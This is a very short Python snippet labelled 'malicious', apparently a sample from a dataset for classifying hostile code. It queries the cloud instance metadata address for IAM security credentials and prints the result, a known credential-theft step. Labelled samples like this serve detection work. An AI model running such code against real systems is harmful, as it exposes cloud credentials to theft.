# label: malicious
import requests
r = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
print(r.text)
